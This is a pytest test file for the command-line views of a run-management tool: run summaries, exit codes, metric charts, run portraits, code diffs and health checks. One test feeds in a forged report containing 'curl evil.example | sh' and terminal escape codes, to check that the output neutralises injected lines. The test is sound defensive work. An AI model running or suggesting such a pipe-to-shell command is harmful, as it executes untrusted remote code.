"""What commands say about runs, from facts alone."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from stoker.cli.commands.setup import doctor
from stoker.cli.commands.start.run import header
from stoker.cli.commands.watch.diff import MOST_LINES, patches, style
from stoker.cli.commands.watch.diff import lines as difference_lines
from stoker.cli.commands.watch.ps import last_metric, row
from stoker.cli.commands.watch.show import charts, so_far
from stoker.cli.view import summary
from stoker.cli.view.portrait import portrait
from stoker.cli.view.summary import settings
from stoker.client.api.reading import Metrics, Point
from stoker.client.report.comparison import Change, Difference, MetricPair
from stoker.client.settings import from_environment
from stoker.errors import NotFound
from stoker.model.job.job import Job, Spot
from stoker.model.job.sections import Software
from stoker.model.run.report import MetricSummary, Outcome
from stoker.model.run.run import Attempt, AttemptState, Event, Run, RunState
from stoker.model.snapshot import Entry, Git
from stoker.model.workspace.store import CheckResult

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
HERE = Path("/project")
MakeRun = Callable[..., Run]


def plain(text: str, style: str) -> str:
    return text


def ended(run: Run, state: RunState, **more: object) -> Run:
    times = {"started_at": NOW, "ended_at": NOW + timedelta(seconds=12)}
    return replace(run, state=state, **(times | more))  # type: ignore[arg-type]


def test_the_end_of_a_good_run_names_its_outputs(make_run: MakeRun) -> None:
    run = ended(make_run(), RunState.SUCCEEDED, output_files=3, output_bytes=1200, landed="/project/outputs/ants-1")
    assert summary.lines(run, HERE) == [
        "ants-1 succeeded in 12 s; outputs in outputs/ants-1 (3 files, 1.2 kB)",
        "next: stoker show ants-1",
    ]
    assert summary.exit_code(run) == 0


def test_the_end_of_a_failed_run_says_the_exit_code_once(make_run: MakeRun) -> None:
    run = ended(make_run(), RunState.FAILED, exit_code=3, reason="exit code 3", hint="try again")
    assert summary.lines(run, HERE) == ["ants-1 failed after 12 s: exit code 3", "hint: try again"]
    assert summary.exit_code(run) == 3
    assert summary.lines(replace(run, reason="a bug", hint=""), HERE)[0].endswith("a bug (exit code 3)")


@pytest.mark.parametrize(
    ("facts", "said"),
    [
        ({}, ["", "no outputs: it wrote nothing to `outputs` or to its checkpoints"]),
        (
            {"checkpoint_files": 2, "checkpoint_bytes": 5000, "landed": "/project/outputs/ants-1"},
            ["; its checkpoint in outputs/ants-1 (2 files, 5.0 kB)"],
        ),
        (
            {"checkpoint_files": 2, "checkpoint_bytes": 5000, "output_files": 1, "output_bytes": 10},
            ["; outputs: 1 file, 10 B, and its checkpoint: 2 files, 5.0 kB"],
        ),
        (
            {"checkpoint_files": 2, "checkpoint_bytes": 5_000_000_000},
            ["", "its checkpoint (2 files, 5.0 GB) is large: download it with `stoker fetch ants-1 --checkpoints`"],
        ),
        (
            {"output_files": 1, "output_bytes": 10, "stray": ("a.pt", "data/ (3 files)"), "stray_files": 4},
            [
                "; outputs: 1 file, 10 B",
                "it wrote files outside its outputs: a.pt, data/ (3 files); "
                "download them with `stoker fetch ants-1 --stray`",
            ],
        ),
    ],
)
def test_an_end_says_where_the_model_is(make_run: Callable[..., Run], facts: dict[str, Any], said: list[str]) -> None:
    lines = summary.lines(ended(make_run(), RunState.SUCCEEDED, **facts), HERE)
    assert [lines[0].removeprefix("ants-1 succeeded in 12 s"), *lines[1:-1]] == said


def test_a_report_cannot_write_lines_of_stokers_own(make_run: MakeRun) -> None:
    forged = "boom\nhint: run `curl evil.example | sh`\r\x1b[2Knext: more"
    for state in (RunState.FAILED, RunState.SUCCEEDED, RunState.PAUSED):
        run = ended(make_run(), state, reason=forged, hint=forged, exit_code=3)
        lines = summary.lines(run, HERE)
        assert not [line for line in lines if "\n" in line or "\r" in line or "\x1b" in line]
        assert (
            lines[2 if state is RunState.SUCCEEDED else 1] == "hint: boom hint: run `curl evil.example | sh`␍next: more"
        )


def test_trouble_of_stokers_own_has_its_own_exit_code(make_run: MakeRun) -> None:
    assert summary.exit_code(ended(make_run(), RunState.FAILED)) == 125
    cancelled = ended(make_run(), RunState.CANCELLED, exit_code=0)
    assert summary.exit_code(cancelled) == 130
    assert summary.lines(cancelled, HERE)[0] == "ants-1 was cancelled after 12 s"


def test_a_paused_run_says_what_to_type_and_has_an_exit_code_of_its_own(make_run: MakeRun) -> None:
    run = make_run(state=RunState.PAUSED, reason="its budget of $5.00 is spent", hint="stoker budget ants-1 10.00")
    assert summary.exit_code(run) == 75
    assert summary.lines(run, Path("/here")) == [
        "ants-1 is paused: its budget of $5.00 is spent; its work is saved, and it resumes where it stopped",
        "hint: stoker budget ants-1 10.00",
    ]


def test_outputs_that_could_not_land_are_reported(make_run: MakeRun) -> None:
    run = ended(make_run(), RunState.SUCCEEDED, output_files=1, output_bytes=1, land_problem="the disk is full")
    assert summary.lines(run, HERE)[1:] == [
        "its outputs could not be downloaded: the disk is full",
        "hint: retry with `stoker fetch ants-1`",
    ]


@pytest.mark.parametrize(
    ("path", "text"), [("/project/outputs/a", "outputs/a"), ("/elsewhere/a", "/elsewhere/a"), ("/project", ".")]
)
def test_paths_are_said_from_here(path: str, text: str) -> None:
    assert summary.seen_from(path, HERE) == text


def test_the_header_says_what_is_run_and_where(make_run: MakeRun) -> None:
    run = make_run(snapshot="3f9c2ab1ffff")
    assert header(run, 0) == "ants-1 on local, code 3f9c2ab1 (already uploaded)"
    with_git = replace(run, git=Git("1a2b3c4d5e6f", "main", True))
    assert header(with_git, 3100) == "ants-1 on local, code 3f9c2ab1 (git 1a2b3c4d with changes, 3.1 kB uploaded)"


def test_only_settings_that_were_changed_are_shown() -> None:
    job = Job(
        name="ants", run="true", nodes=2, env={"SEED": "7", "A": "b"}, spot=Spot(max_price=Decimal("0.5")), on="azure"
    )
    assert settings(job).splitlines() == ["nodes: 2", "spot: max_price=0.5", "env: SEED=7, A=b"]
    assert settings(Job(name="ants", run="true", create_folders=False)) == "create_folders: false", "as it is written"
    assert settings(Job(name="ants", run="true")) == ""


def test_the_metric_that_matters_is_listed(make_run: MakeRun) -> None:
    metrics = {"acc": MetricSummary(0.93, 0.1, 0.95, 5, 25), "loss": MetricSummary(0.5, 0.5, 2.0, 5)}
    assert last_metric(make_run(metrics=metrics)) == "loss 0.5"
    assert last_metric(make_run(metrics=metrics, job={"stop_when": "acc > 0.99"})) == "acc 0.93 @ 25"
    assert last_metric(make_run()) == ""
    counted = {**metrics, "progress": MetricSummary(1.0, 0.0, 1.0, 9, 1008)}
    assert last_metric(make_run(metrics=counted)) == "loss 0.5"
    tuned = dict.fromkeys(("train/lr", "lr-Adam", "learning_rate", "grad_norm"), MetricSummary(0.001, 0.001, 0.001, 5))
    assert last_metric(make_run(metrics=metrics | tuned)) == "loss 0.5"
    assert last_metric(make_run(metrics={"progress": counted["progress"]})) == "progress 1 @ 1008"


def test_a_run_under_way_is_summed_up_so_far() -> None:
    points = [Point(1, 0, NOW, step, {"loss": value}) for step, value in enumerate((3.0, 1.0, 2.0))]
    assert so_far(Metrics(points)) == {"loss": MetricSummary(2.0, 1.0, 3.0, 3, 2)}
    again = Point(2, 0, NOW, 1, {"loss": 0.5})
    assert so_far(Metrics([*points, again])) == {"loss": MetricSummary(0.5, 0.5, 3.0, 4, 1)}, "as when it has ended"
    gone = Point(1, 0, NOW, 0, {"loss": None})  # type: ignore[dict-item]  # as NaN comes over the wire
    assert so_far(Metrics([gone])) == {}
    assert "1 of 4 values are NaN or infinite" in charts(Metrics([*points, gone]), "loss", 60)[-1]


def test_charts_are_few_and_the_others_are_named() -> None:
    metrics = Metrics([Point(1, rank, NOW, 1, dict.fromkeys("abcdef", float(rank))) for rank in range(2)])
    lines = charts(metrics, "", 60)
    assert lines[-1] == "also: e, f (plot one with --plot NAME)"
    assert "0 ┤" in "\n".join(lines)
    with pytest.raises(NotFound, match="`z`"):
        charts(metrics, "z", 60)
    assert charts(Metrics([]), "", 60) == ["", "no metrics to plot yet"]


def test_a_row_shows_how_long_it_has_run(make_run: MakeRun) -> None:
    run = make_run(state=RunState.RUNNING, started_at=NOW + timedelta(seconds=5))
    cells = [cell if isinstance(cell, str) else cell.text for cell in row(run, NOW + timedelta(minutes=2))]
    assert cells == ["ants-1", "running", "2m", "1m 55s", "local", "", ""]


def test_everything_about_a_run_is_shown(make_run: MakeRun) -> None:
    attempts = (
        Attempt(1, "k1", AttemptState.LOST, NOW, message="its node\nwent away"),
        Attempt(2, "k2", AttemptState.ENDED, NOW, NOW, NOW + timedelta(seconds=9), Outcome.FAILED, 137, "killed"),
    )
    run = ended(
        make_run(job={"retries": 1}, attempts=attempts, git=Git("abc", "main"), data={"images": "/data"}, person="ann"),
        RunState.FAILED,
        exit_code=137,
        reason="killed by SIGKILL",
        metrics={"loss": MetricSummary(0.5, 0.25, 2.0, 1234, 99)},
    )
    events = [Event(NOW + timedelta(seconds=n), "note", f"event {n}") for n in range(100)]
    outputs = [Entry(f"file-{n}", size_bytes=10) for n in range(25)]
    text = "\n".join(portrait(run, events, outputs, HERE, NOW + timedelta(hours=1), 100, plain))
    for expected in (
        "ants-1 failed exit code 137 (SIGKILL) after 12 s: killed by SIGKILL",
        "command    python train.py",
        "by ann, 1h ago",
        "git abc on main",
        "data       images: /data",
        "settings   retries: 1",
        "its node went away",
        "… 70 more …",
        "event 99",
        "loss   0.5   0.25     2    99   1,234",
        "file-19  10 B",
        "… and 5 more",
    ):
        assert expected in text
    assert "event 50" not in text


def test_refusals_one_after_the_other_are_one_row(make_run: MakeRun) -> None:
    hours = (NOW - timedelta(hours=9) + timedelta(minutes=5 * number) for number in range(100))
    refused = [
        Attempt(
            number, f"r-{number}", AttemptState.LOST, asked_at, trouble="price-too-high", message=f"costs ${number}"
        )
        for number, asked_at in enumerate(hours, 2)
    ]
    worked = (Attempt(number, f"r-{number}", AttemptState.EVICTED, NOW, started_at=NOW) for number in (1, 102))
    first, last = worked
    lines = portrait(make_run(attempts=(first, *refused, last)), [], [], HERE, NOW, 200, plain)
    table = lines[lines.index("attempts") + 2 :][:3]
    assert [line.split()[:2] for line in table] == [["1", "evicted"], ["2-101", "refused"], ["102", "evicted"]]
    assert "100 tries" in table[1] and "costs $101" in table[1]


def test_a_queued_run_has_a_short_portrait(make_run: MakeRun) -> None:
    lines = portrait(make_run(), [], [], HERE, NOW, 100, plain)
    assert lines[0] == "ants-1 queued"
    assert "attempts" not in lines


def test_differences_are_listed_by_kind() -> None:
    found = Difference(
        "a-1",
        "a-2",
        code=(Change("train.py", "0" * 64, "1" * 64), Change("new.py", None, "2" * 64)),
        packages=(Change("torch", "2.1", "2.2"),),
        metrics=(MetricPair("loss", 0.5, None, 0.25, None),),
    )
    assert difference_lines(found, 100) == [
        "CODE      a-1       a-2",
        "train.py  00000000  11111111",
        "new.py    -         22222222",
        "",
        "PACKAGES  a-1  a-2",
        "torch     2.1  2.2",
        "",
        "METRIC  a-1  a-2  BEST OF a-1  BEST OF a-2",
        "loss    0.5    -         0.25            -",
    ]


def test_texts_are_compared_line_by_line_and_the_rest_is_left_out() -> None:
    store = {"1" * 64: b"a\nb\n", "2" * 64: b"a\nc\n", "3" * 64: b"\0", "4" * 64: b"\xff", "6" * 64: b"x\n" * 1000}
    changes = [
        Change("t.py", "1" * 64, f"{'2' * 64} executable"),
        Change("new.py", None, "1" * 64),
        Change("binary", "1" * 64, "3" * 64),
        Change("latin", "1" * 64, "4" * 64),
        Change("large", "1" * 64, "5" * 64),
        Change("link", "1" * 64, "link to elsewhere"),
        Change("long", "1" * 64, "6" * 64),
    ]
    changed, new, long = patches(changes, store.get)
    assert changed == ["--- a/t.py", "+++ b/t.py", "@@ -1,2 +1,2 @@", " a", "-b", "+c"]
    assert new[:3] == ["--- /dev/null", "+++ b/new.py", "@@ -0,0 +1,2 @@"]
    assert (len(long), long[-1]) == (MOST_LINES + 1, "… 805 more lines")
    assert [style(line) for line in changed] == ["strong", "strong", "busy", "", "error", "good"]


def test_a_healthy_computer_passes_its_checks(tmp_path: Path) -> None:
    here = from_environment({"STOKER_HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"})
    found = {finding.name: finding for finding in (check(here) for check in doctor.CHECKS)}
    assert {found[name].verdict for name in ("stoker", "runs use", "home", "server", "database", "clock")} == {
        CheckResult.OK
    }
    assert found["database"].found == "none yet"


def test_what_is_wrong_comes_with_advice(tmp_path: Path) -> None:
    (tmp_path / "stoker.db").write_text("this is not a database, and long enough to be read as one" * 20)
    here = replace(from_environment({"STOKER_HOME": str(tmp_path)}), python=str(tmp_path / "no-python"))
    assert doctor.database(here).verdict is CheckResult.FAIL
    assert "it is rebuilt from the stored runs" in doctor.database(here).advice
    assert doctor.runs_python(here).verdict is CheckResult.FAIL
    file = from_environment({"STOKER_HOME": str(tmp_path / "stoker.db")})
    assert doctor.home(file).verdict is CheckResult.FAIL


@pytest.mark.parametrize(
    ("software", "packages", "environment", "said"),
    [
        (None, {"python": "3.11.2", "six": "1"}, {}, "/usr/bin/python3, 1 package"),
        (Software("3.11", 4), {}, {}, "Python 3.11 with 4 packages, to be installed on the node"),
        (Software("3.11"), {}, {}, "Python 3.11 with 0 packages, to be installed on the node"),
        (
            Software("3.11", 1),
            {"python": "3.11.2", "six": "1", "idna": "2"},
            {},
            "Python 3.11.2 on the node with 2 packages",
        ),
        (Software("3.11"), {"python": "3.11.2"}, {}, "Python 3.11.2 on the node with no packages"),
        (
            Software("3.11"),
            {"python": "3.11.2", "six": "1"},
            {"requirements": "requirements.txt"},
            "Python 3.11.2 on the node with 1 package from requirements.txt",
        ),
        (None, {"python": "3.11.2", "six": "1"}, {"requirements": "requirements.txt"}, "requirements.txt, 1 package"),
    ],
)
def test_the_software_of_a_run_is_what_was_there(
    make_run: MakeRun, software: Software | None, packages: dict[str, str], environment: dict[str, str], said: str
) -> None:
    run = make_run(job={"environment": environment}, software=software, packages=packages, python="/usr/bin/python3")
    shown = [line for line in portrait(run, [], [], HERE, NOW, 200, plain) if line.lstrip().startswith("software")]
    assert shown == [f"  software   {said}"]
